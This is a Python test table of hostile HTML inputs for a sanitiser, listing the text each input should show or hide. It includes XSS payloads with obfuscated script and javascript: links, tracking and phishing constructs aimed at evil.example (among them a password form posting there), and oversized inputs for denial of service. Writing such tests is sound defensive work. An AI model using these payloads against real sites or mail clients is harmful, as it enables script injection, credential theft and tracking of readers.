"""HTML: what asks others for things, what runs, what hides, and what breaks readers."""

from .hazard import Hazard, by_table, plain

KIND = "text/html; charset=utf-8"


def html(text: str) -> bytes:
    return plain(text, content_type=KIND)


ROWS = {
    "a script": (html("<p>Words</p><script>alert(1)</script>"), {"says": "Words", "hides": "alert"}),
    "a script in a script": (html("<scr<script>ipt>alert(1)</scr</script>ipt>Words"), {"says": "Words"}),
    "a handler": (html('<p onmouseover="alert(1)">Words</p>'), {"says": "Words", "hides": "alert"}),
    "a picture from elsewhere": (
        html('Words<img src="https://evil.example/p.gif">'),
        {"says": "Words", "hides": "evil"},
    ),
    "a picture in itself": (html('Words<img src="data:image/png;base64,AAAA">'), {"hides": "data:"}),
    "a picture of the message": (html('Words<img src="cid:1">'), {"hides": "cid"}),
    "a style from elsewhere": (html('<link rel=stylesheet href="https://evil.example/s.css">Words'), {"hides": "evil"}),
    "a style that asks": (html("<style>p{background:url(https://evil.example)}</style><p>Words"), {"hides": "evil"}),
    "a style on a word": (html('<p style="background:url(https://evil.example)">Words</p>'), {"hides": "evil"}),
    "a frame": (html('<iframe src="https://evil.example"></iframe>Words'), {"hides": "evil"}),
    "an object": (html('<object data="https://evil.example"></object>Words'), {"hides": "evil"}),
    "an embedded film": (html('<video src="https://evil.example" autoplay></video>Words'), {"hides": "evil"}),
    "a form": (html('<form action="https://evil.example"><input name=password></form>Words'), {"hides": "evil"}),
    "a base": (html('<base href="https://evil.example"><a href="x">link</a>'), {"hides": "evil"}),
    "a jump": (html('<meta http-equiv=refresh content="0;url=https://evil.example">Words'), {"hides": "evil"}),
    "a drawing": (
        html('<svg><script>alert(1)</script><a href="https://evil.example">x</a></svg>Words'),
        {"hides": "alert"},
    ),
    "mathematics": (html("<math><mtext><script>alert(1)</script></mtext></math>Words"), {"hides": "alert"}),
    "a link to a script": (html('<a href="javascript:alert(1)">my bank</a>'), {"says": "my bank", "hides": "alert"}),
    "a link to a script, hidden": (html('<a href="jav&#x09;ascript:alert(1)">my bank</a>'), {"hides": "alert"}),
    "a link elsewhere": (
        html('<a href="https://evil.example/x">my bank</a>'),
        {"says": "my bank (https://evil.example/x)"},
    ),
    "a link that says where": (
        html('<a href="https://a.example">https://a.example</a>'),
        {"says": "https://a.example"},
    ),
    "a link in a link": (
        html('<a href="https://a.example">a<a href="https://b.example">b</a></a>'),
        {"says": "b (https://b.example)"},
    ),
    "a comment": (html("<!-- secret -->Words"), {"says": "Words", "hides": "secret"}),
    "Outlook's comments": (html("<!--[if mso]><p>old</p><![endif]-->Words"), {"hides": "old"}),
    "a template": (html("<template><p>hidden</p></template>Words"), {"hides": "hidden"}),
    "nothing but a title": (html("<title>Words</title>"), {"hides": "Words"}),
    "words that would be tags": (html("&lt;script&gt;alert(1)&lt;/script&gt;"), {"says": "<script>alert(1)</script>"}),
    "lists and tables": (html("<ul><li>one<li>two</ul><table><tr><td>a<td>b</table>"), {"says": "one"}),
    "never closed": (html("<p><b><i><u>Words"), {"says": "Words"}),
    "closed and never opened": (html("</p></div></body>Words"), {"says": "Words"}),
    "a tag never ended": (html("Words<p "), {"says": "Words"}),
    "a hundred thousand open": (html("<b>" * 90_000 + "Words"), {"says": "Words", "flags": ()}),
    "a hundred thousand pointed brackets": (html("<" * 100_000 + "Words"), {}),
    "deep and full of brackets": (html("<b>" * 300 + "<" * 90_000), {}),
    "a hundred thousand tables": (html("<table>" * 40_000 + "Words"), {}),
    "a megabyte of words": (html("<p>Words</p>" * 90_000), {"says": "Words", "flags": ("cut",)}),
    "a NUL in a tag": (html("<scr\0ipt>alert(1)</scr\0ipt>Words"), {"says": "Words"}),
    "half a pair by number": (html("a&#xD800;b"), {"says": "a"}),
    "numbers of nothing": (html("a&#0;&#x110000;&#99999999999;b"), {"says": "a"}),
    "in UTF-16": (
        plain("<p>Words ŵ</p>".encode("utf-16"), content_type="text/html; charset=utf-16"),
        {"says": "Words ŵ"},
    ),
    "in UTF-7, as scripts were hidden": (
        plain(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-Words", content_type="text/html; charset=utf-7"),
        {"hides": "alert"},
    ),
    "plain words that look laid out": (plain("<b>not bold</b>"), {"says": "<b>not bold</b>"}),
}
# A tag never ended swallows what follows it, as in a browser: 100,000 brackets are words.
HAZARDS: list[Hazard] = by_table("HTML", ROWS)
